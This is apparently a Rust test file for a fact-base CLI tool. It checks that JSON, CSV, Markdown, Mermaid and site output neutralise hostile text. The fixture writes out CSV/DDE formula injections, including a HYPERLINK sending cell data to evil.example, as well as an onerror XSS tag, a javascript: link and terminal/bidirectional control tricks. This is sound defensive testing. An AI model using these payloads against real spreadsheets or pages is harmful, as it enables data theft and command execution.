//! Text from a fact file stays text in every output: no raw 8-bit CSI or bidirectional control in
//! any format or on the site, no formula a spreadsheet would run in CSV, no link in Markdown and
//! no HTML in Mermaid.

use crate::support::Kz;

/// Every character `kz` must never write raw: C1's CSI, DEL, and the bidirectional controls
/// (RLO, RLI, PDI, RLM and the Arabic letter mark).
const RAW: [char; 7] = [
    '\u{9b}', '\u{7f}', '\u{202e}', '\u{2067}', '\u{2069}', '\u{200f}', '\u{61c}',
];

/// A base whose names, descriptions and quotes carry every trick above.
fn hostile() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let yaml = r#"sources:
  - id: src
    title: "Report \u009B31m red \u202Egnp.exe\u2069"
actors:
  - id: mallory
    name: "Mallory \u009B2J\u202Eyrollam\u202C"
    aliases: ["@mallory", "\u2067isolate\u2069", "alm\u061Cmark", "del\u007F"]
    description: "[click me](javascript:alert(1)) and ![x](https://t.example/p.png)"
    source: src
  - id: trudy
    name: "=HYPERLINK(\"https://evil.example/?\"&A1, \"Trudy\")"
    description: "-0500"
    source: src
organisations:
  - id: evil-org
    name: "<img src=x onerror=alert(1)> Org"
    kind: "+cmd|' /C calc'!A0"
    members:
      - member: mallory
      - member: trudy
    source: src
quotes:
  - id: q1
    speaker: mallory
    text: "@SUM(1+1)*cmd|' /C calc'!A0"
    context: "-5"
    source: src
"#;
    std::fs::write(dir.path().join("base.yaml"), yaml).unwrap();
    dir
}

fn kz(base: &tempfile::TempDir) -> Kz {
    Kz::new().args(["--facts", &base.path().display().to_string()])
}

#[track_caller]
fn assert_no_raw(what: &str, text: &str) {
    for c in RAW {
        assert!(
            !text.contains(c),
            "{what} writes a raw U+{:04X}:\n{text}",
            c as u32
        );
    }
}

#[test]
fn json_and_jsonl_escape_c1_and_bidirectional_controls_and_read_back_the_same() {
    let base = hostile();
    for args in [
        &["actors", "-f", "json"][..],
        &["actors", "-f", "jsonl"],
        &["who", "mallory", "-f", "json"],
        &["who", "mallory", "-f", "jsonl"],
        &["why", "mallory", "-f", "json"],
        &["sources", "-f", "json"],
        &["quotes", "-f", "jsonl"],
        &["export", "--to", "jsonl"],
    ] {
        let run = kz(&base).args(args).run().success();
        assert_no_raw(&format!("kz {}", args.join(" ")), &run.stdout);
        assert!(run.stdout.contains("\\u009b") || run.stdout.contains("\\u202e"));
        // The escapes are JSON's: a parser reads back the very names.
        let all: Vec<serde_json::Value> = if run.stdout.trim_start().starts_with('[') {
            vec![run.json()]
        } else {
            run.stdout
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        };
        let text = serde_json::to_string(&all).unwrap();
        let parsed: serde_json::Value = serde_json::from_str(&text).unwrap();
        let mut strings = Vec::new();
        collect_strings(&parsed, &mut strings);
        assert!(
            strings
                .iter()
                .any(|s| s.contains("Mallory \u{9b}2J\u{202e}yrollam")
                    || s.contains("Report \u{9b}31m")),
            "kz {}: the names do not read back",
            args.join(" ")
        );
    }
    // N-Triples writes them as its own `\u` escapes too.
    let nt = kz(&base)
        .args(["export", "--to", "ntriples"])
        .run()
        .success();
    assert_no_raw("kz export --to ntriples", &nt.stdout);
    assert!(nt.stdout.contains("\\u061C"), "{}", nt.stdout);
}

fn collect_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|v| collect_strings(v, out)),
        serde_json::Value::Object(o) => o.values().for_each(|v| collect_strings(v, out)),
        _ => {}
    }
}

#[test]
fn the_arabic_letter_mark_is_escaped_in_tables_and_on_the_site() {
    let base = hostile();
    let run = kz(&base)
        .args(["who", "mallory", "-f", "table", "--color", "never"])
        .run()
        .success();
    assert_no_raw("kz who -f table", &run.stdout);
    assert!(run.stdout.contains("alm\\u{61c}mark"), "{}", run.stdout);
    let out = tempfile::tempdir().unwrap();
    let site = out.path().join("site");
    kz(&base)
        .args(["site", &site.display().to_string()])
        .run()
        .success();
    let mut seen = 0;
    for entry in walkdir::WalkDir::new(&site) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let text = std::fs::read_to_string(entry.path()).unwrap();
            assert_no_raw(&entry.path().display().to_string(), &text);
            seen += 1;
        }
    }
    assert!(seen > 5, "{seen} files");
    let page = std::fs::read_to_string(site.join("records/mallory.html")).unwrap();
    assert!(page.contains("alm\\u{61c}mark"));
}

/// The cells of a CSV output, by row, parsed.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn csv_cells_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers() {
    let base = hostile();
    let actors = kz(&base).args(["actors", "-f", "csv"]).run().success();
    let cells = csv_cells(&actors.stdout);
    let trudy = cells.iter().find(|r| r[0] == "trudy").unwrap();
    assert_eq!(
        trudy[1],
        "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Trudy\")"
    );
    assert_eq!(trudy[2], "-0500", "a number is left alone");
    let quotes = kz(&base).args(["quotes", "-f", "csv"]).run().success();
    let cells = csv_cells(&quotes.stdout);
    let q = &cells[1];
    let text = cells[0].iter().position(|c| c == "text").unwrap();
    let context = cells[0].iter().position(|c| c == "context").unwrap();
    assert_eq!(q[text], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(q[context], "-5");
    let orgs = kz(&base).args(["orgs", "-f", "csv"]).run().success();
    assert!(
        csv_cells(&orgs.stdout)
            .iter()
            .any(|r| r.iter().any(|c| c == "'+cmd|' /C calc'!A0"))
    );
    // No cell of any of them starts as a formula.
    for run in [&actors, &quotes, &orgs] {
        for row in csv_cells(&run.stdout) {
            for cell in row {
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                    && cell.parse::<f64>().is_err();
                assert!(!formula, "a formula cell: {cell:?}");
            }
        }
    }
    // --raw-csv writes the cells exactly, for a program rather than a spreadsheet.
    let raw = kz(&base)
        .args(["actors", "-f", "csv", "--raw-csv"])
        .run()
        .success();
    let cells = csv_cells(&raw.stdout);
    let trudy = cells.iter().find(|r| r[0] == "trudy").unwrap();
    assert_eq!(
        trudy[1],
        "=HYPERLINK(\"https://evil.example/?\"&A1, \"Trudy\")"
    );
    // TSV, the format of pipes, is left exact.
    let tsv = kz(&base).args(["actors", "-f", "tsv"]).run().success();
    assert!(tsv.stdout.contains("\n=HYPERLINK") || tsv.stdout.contains("\t=HYPERLINK"));
}

#[test]
fn markdown_has_no_links_and_mermaid_no_html() {
    let base = hostile();
    for args in [
        &["actors", "-f", "markdown"][..],
        &["who", "mallory", "-f", "markdown"],
    ] {
        let run = kz(&base).args(args).run().success();
        let unescaped_link = run
            .stdout
            .match_indices("](")
            .any(|(at, _)| !run.stdout[..at].ends_with('\\'));
        assert!(
            !unescaped_link,
            "kz {}: a Markdown link:\n{}",
            args.join(" "),
            run.stdout
        );
        assert!(
            run.stdout.contains(
                "\\[click me\\](javascript:alert(1)) and !\\[x\\](https://t.example/p.png)"
            ),
            "{}",
            run.stdout
        );
    }
    let mermaid = kz(&base).args(["graph", "--to", "mermaid"]).run().success();
    assert!(!mermaid.stdout.contains("<img"), "{}", mermaid.stdout);
    assert!(
        mermaid
            .stdout
            .contains("#60;img src=x onerror=alert(1)#62; Org")
    );
    // Every label stays inside its quotes: one pair per node line.
    for line in mermaid.stdout.lines().filter(|l| l.contains(":::")) {
        assert_eq!(line.matches('"').count(), 2, "{line}");
    }
    assert_no_raw("kz graph --to mermaid", &mermaid.stdout);
}
